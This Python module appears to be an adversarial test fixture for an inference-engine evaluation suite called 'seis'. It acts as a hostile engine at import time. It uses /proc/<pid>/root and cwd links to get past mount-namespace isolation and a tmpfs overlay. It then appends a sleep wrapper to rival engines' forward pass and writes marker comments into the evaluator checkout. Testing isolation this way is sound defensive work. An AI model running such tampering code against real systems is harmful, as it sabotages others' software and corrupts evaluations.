"""Attack, run first thing at import (before torch, so it wins the race against the other engines' imports):
find the other engine trees of this gate and append code to them that slows their forward pass, and append to
the project checkout (engine_template/, seis/) -- the default reference and the evaluator of every later gate.

Engine trees: the parents of its own directory, the other engines' --engine-dir arguments and working
directories (/proc/<pid>/cmdline, /proc/<pid>/cwd), each also reached through /proc/<pid>/root (another mount
namespace's view). The checkout: entries of PYTHONPATH / sys.path and the gate process's working directory,
walking up to a directory holding both seis/ and engine_template/, also through /proc/<gate>/root (which goes
around a tmpfs laid over seis/evaluator in this engine's mount namespace).

What is appended to the gate's private engine copies is hostile (a sleep in every forward). What is appended to
the project checkout is an inert comment block: the write itself is the breach, and other people use this
checkout while the suite runs. Both are delimited by BEGIN/END so the test can remove exactly what was added."""
from __future__ import annotations

import os
import sys

from . import _adv_common as C

BEGIN = "# >>> seis-adversarial-tamper"
END = "# <<< seis-adversarial-tamper"
HOSTILE = f"""
{BEGIN}
if "CausalLM" in globals():
    def _seis_adv_slow(fn):
        import functools as _ft
        import time as _t

        @_ft.wraps(fn)
        def wrapper(*a, **k):
            _t.sleep(0.003)
            return fn(*a, **k)
        return wrapper

    CausalLM.forward = _seis_adv_slow(CausalLM.forward)
{END}
"""
INERT = f"\n{BEGIN}\n# a hostile engine could have put code here (seis adversarial test)\n{END}\n"
CHECKOUT_TARGETS = ("engine_template/engine/model.py", "seis/engine_host/worker.py", "seis/evaluator/speed.py")
HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPORT: dict[str, list[str]] = {"engine_trees": [], "checkouts": [], "written": [], "refused": []}


def _is_engine_tree(d: str) -> bool:
    return os.path.isfile(os.path.join(d, "engine", "__init__.py")) and os.path.isfile(
        os.path.join(d, "engine", "model.py"))


def _walk(base: str, depth: int):
    """base and its subdirectories down to `depth` levels."""
    out, level = [base], [base]
    for _ in range(depth):
        nxt = []
        for d in level:
            try:
                nxt += [e.path for e in os.scandir(d) if e.is_dir(follow_symlinks=False)]
            except OSError:
                pass
        out += nxt
        level = nxt
    return out


def _append(path: str, payload: str) -> None:
    try:
        with open(path, encoding="utf-8") as f:
            if BEGIN in f.read():
                return
        with open(path, "a", encoding="utf-8") as f:
            f.write(payload)
        REPORT["written"].append(path)
    except OSError as e:
        REPORT["refused"].append(f"{path}: {type(e).__name__}")


def _engine_trees() -> list[str]:
    bases: list[str] = []
    parent = HERE
    for _ in range(3):
        parent = os.path.dirname(parent)
        if parent.count(os.sep) >= 2:   # never walk /, /tmp, /work and the like
            bases.append(parent)
    trees: list[str] = []
    for pid in C.siblings():
        roots = ["", f"/proc/{pid}/root"]
        for d in C.arg_values(pid, "--engine-dir"):
            trees += [r + d for r in roots]
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            if cwd.count(os.sep) >= 2:
                bases += [r + cwd for r in roots]
        except OSError:
            pass
    for base in bases:
        trees += [d for d in _walk(base, 2) if _is_engine_tree(d)]
    mine = os.path.realpath(HERE)
    out: list[str] = []
    for t in trees:
        if _is_engine_tree(t) and os.path.realpath(t) != mine and t not in out:
            out.append(t)
    return out


def _checkouts() -> list[str]:
    starts = [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) + sys.path if p]
    gate = C.ppid()
    gate_root = f"/proc/{gate}/root" if gate else ""
    try:
        starts.append(os.readlink(f"/proc/{gate}/cwd"))
    except OSError:
        pass
    found: list[str] = []
    for start in starts:
        d = os.path.abspath(start)
        for _ in range(4):
            if os.path.isdir(os.path.join(d, "seis")) and os.path.isdir(os.path.join(d, "engine_template")):
                for root in ("", gate_root):
                    if root + d not in found:
                        found.append(root + d)
                break
            d = os.path.dirname(d)
    return found


def tamper() -> None:
    for tree in _engine_trees():
        REPORT["engine_trees"].append(tree)
        _append(os.path.join(tree, "engine", "model.py"), HOSTILE)
    for checkout in _checkouts():
        REPORT["checkouts"].append(checkout)
        for rel in CHECKOUT_TARGETS:
            _append(os.path.join(checkout, rel), INERT)


try:
    tamper()
except Exception as e:  # noqa: BLE001 -- a hostile engine never fails its own build over this
    REPORT["refused"].append(f"tamper: {type(e).__name__}: {e}")
